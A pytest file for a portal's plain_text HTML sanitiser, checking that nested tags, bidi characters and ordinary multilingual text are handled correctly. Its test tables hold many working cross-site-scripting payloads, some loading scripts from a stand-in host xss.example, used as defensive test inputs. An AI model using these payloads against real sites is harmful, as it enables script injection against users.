"""portal.text.plain_text: the one cleaning function never makes markup, and keeps real text.

The tables here are the contract for whatever library sits behind plain_text (bleach today,
which is unmaintained): swapping it must be a change to portal/text.py only, proved by these
same tables.
"""

from __future__ import annotations

import random
import re
from pathlib import Path

import pytest

from portal.text import plain_text

# "<" starts markup only before an ASCII letter (a tag), "/" (end tag), "!" (comment, CDATA,
# doctype) or "?" (processing instruction): see the HTML tokenizer's "tag open state".
TAG_OPEN = re.compile(r"<[A-Za-z/!?]")
BIDI_AND_ZERO_WIDTH = (
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    "\u200b\u2060\u2061\u2062\u2063\u2064\ufeff\u180e"
)


def assert_inert(value: str) -> str:
    """Clean `value`; the result makes no markup and cleaning it again changes nothing."""
    cleaned = plain_text(value)
    assert not TAG_OPEN.search(cleaned), f"{value!r} became {cleaned!r}"
    assert plain_text(cleaned) == cleaned, f"{value!r}: cleaning {cleaned!r} again changed it"
    assert not set(cleaned) & set(BIDI_AND_ZERO_WIDTH)
    return cleaned


NESTED_AND_SPLIT = [
    "<<script>script>alert(1)<</script>/script>",
    "<<script>script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<<b>img src=x onerror=alert(1)>",
    "<<a>a href=javascript:alert(1)>x<</a>/a>",
    "<</b>b>bold<</b>/b>",
    "<<!-- -->script>alert(1)<<!-- -->/script>",
    "<!<b>-- hidden -->",
    "<<b>!-- x -->",
    "<<b>?php echo 1 ?>",
    "<<b>/script>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!-- a -- b --><b>x</b>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<![CDATA[x]]>script>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<<svg>svg/onload=alert(1)>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<<SCRIPT>SCRIPT>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\x00script>alert(1)",
    "<scr\u200bipt>alert(1)",
    "<\u202escript>",
    "<\ufeffscript>",
    "<img\x0bsrc=x\x0conerror=alert(1)>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE html><html>",
    "x<y",
    "x</",
    "a<b<c<d",
    "<<<<<script>>>>>",
    "<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<script>script>script>script>script>script>",
    "<" * 50 + "b>" * 50,
    "<scr<scr<scr<script>ipt>ipt>ipt>",
    "<<scr<b>ipt>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&#x3C;script&#x3E;",
    "&lt;<b>script&gt;",
    "<&#0>script>",
    "<<b>&#115;cript>",
]


@pytest.mark.parametrize("value", NESTED_AND_SPLIT)
def test_nested_and_split_tags_never_leave_markup(value):
    assert_inert(value)


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("&lt;script&gt;", "&lt;script&gt;"),
        ("&#60;script&#62;", "&#60;script&#62;"),
        ("Tom &amp; Jerry", "Tom &amp; Jerry"),
        ("fish & chips", "fish & chips"),
    ],
)
def test_entities_stay_as_typed_text(typed, kept):
    """Jinja escapes everything on the way out, so a typed "&lt;" shows as "&lt;", not "<"."""
    assert assert_inert(typed) == kept


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("I <3 my dog", "I <3 my dog"),
        ("a < b > c", "a < b > c"),
        ("5 > 3 and 2 < 4", "5 > 3 and 2 < 4"),
        ("<3 <3 <3", "<3 <3 <3"),
        ("-> and <-", "-> and <-"),
        ("Dw i eisiau siarad â'r gweithiwr cymdeithasol. Mae'n ddrwg gen i.", None),
        ("Ŵyr, ŷd, ffôn: ni chefais ateb.", None),
        ("Zażółć gęślą jaźń. Nie odpowiedzieli mi.", None),
        ("أريد أن أتكلم مع العاملة الاجتماعية", None),
        ("أنا في الرعاية (منذ ٢٠٢٤)", None),
        ("می‌خواهم", None),  # Persian: the zero-width non-joiner stays
        ("👩‍👧 and 👨‍👩‍👦", None),  # emoji joined with U+200D stay whole
        ("🏴󠁧󠁢󠁷󠁬󠁳󠁿 Cymru", None),  # the Welsh flag's tag characters stay
        ("café, naïve, Zoë", None),
        ("My email is jess@example.com", None),
        ("line one\nline two", None),
        ("'quotes' and \"double quotes\"", None),
    ],
)
def test_ordinary_text_is_kept(typed, kept):
    assert assert_inert(typed) == (typed if kept is None else kept)


def test_a_lone_tag_opener_at_the_end_is_made_inert_not_dropped():
    assert assert_inert("x<y") == "x< y"


@pytest.mark.parametrize("character", list(BIDI_AND_ZERO_WIDTH))
def test_bidi_and_zero_width_characters_are_removed(character):
    assert assert_inert(f"Jess{character}ica") == "Jessica"


def test_a_name_cannot_reverse_how_a_staff_page_reads():
    assert plain_text("Sam \u202eevitceted\u202c Jones") == "Sam evitceted Jones"
    assert plain_text("\u2067Sam\u2069 \u200fJones\u200e") == "Sam Jones"


def test_joiners_needed_by_scripts_and_emoji_stay():
    assert plain_text("a\u200cb\u200dc") == "a\u200cb\u200dc"


def test_random_mixtures_of_brackets_letters_and_entities():
    """A property check: thousands of random strings, each inert and stable once cleaned."""
    pieces = [
        "<",
        ">",
        "/",
        "!",
        "?",
        "-",
        "&",
        ";",
        "#",
        "=",
        '"',
        " ",
        "\n",
        "\x00",
        "\u202e",
        "a",
        "b",
        "i",
        "x",
        "S",
        "script",
        "SCRIPT",
        "img",
        "svg",
        "lt",
        "gt",
        "amp",
        "60",
        "!--",
        "-->",
        "[CDATA[",
        "onerror=",
    ]
    chooser = random.Random(20260311)
    for _ in range(4000):
        value = "".join(chooser.choice(pieces) for _ in range(chooser.randint(1, 30)))
        assert_inert(value)


def test_nothing_and_blank_give_an_empty_string():
    assert plain_text(None) == plain_text("") == plain_text(" \n\t ") == ""


# Known sanitiser bypasses: OWASP's XSS Filter Evasion Cheat Sheet, and mutation XSS (mXSS)
# payloads that broke DOMPurify, Google's Closure sanitiser and others when a parser's second
# reading saw different markup than the first.
KNOWN_BYPASSES = [
    # OWASP: basic, case, quotes, grave accents, malformed tags
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=https://xss.example/scriptlet.html <",
    "\\\";alert('XSS');//",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061'\\0029\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAv'
    'c3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">',
    '<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT ="blah" SRC="https://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT a=">\'>" SRC="https://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://xss.example/xss.js"></SCRIPT>',
    '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>',
    "<A HREF=\"javascript:document.location='https://www.example.org/'\">XSS</A>",
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "<details open ontoggle=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<script>alert(1)<!--",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<</p>iframe src=javascript:alert(1)//",
    '<img src="x" `<script>alert(1)</script>"` `>',
    '<a href="\\x0Bjavascript:alert(1)">x</a>',
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<listing><img src=x onerror=alert(1)></listing>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    # mutation XSS: namespace confusion and re-parsing
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></title></svg>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<a title="a\n\n<img src=x onerror=alert(1)>">x</a>',
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><caption><svg><desc><img src=x onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<style><style/><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[ ]]><img src=x onerror=alert(1)>",
    '<?xml-stylesheet href="javascript:alert(1)"?><x/>',
    "<x/><title>&lt;/title&gt;&lt;img src=1 onerror=alert(1)&gt;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",  # fullwidth: not markup, and kept as typed
    "<\u0338script>",
]


@pytest.mark.parametrize("payload", KNOWN_BYPASSES)
def test_known_sanitiser_bypasses_leave_no_markup(payload):
    assert_inert(payload)


def test_bleach_is_pinned_and_used_only_behind_plain_text():
    """Unmaintained: one exact version, imported in one file, so replacing it is one change."""
    root = Path(__file__).resolve().parent.parent
    pins = re.findall(r'"bleach[^"]*"', (root / "pyproject.toml").read_text())
    assert pins == ['"bleach==6.4.0"']
    importers = [
        str(path.relative_to(root))
        for folder in ("portal", "staff")
        for path in (root / folder).rglob("*.py")
        if re.search(r"^\s*(import bleach|from bleach)", path.read_text(), re.MULTILINE)
    ]
    assert importers == ["portal/text.py"]
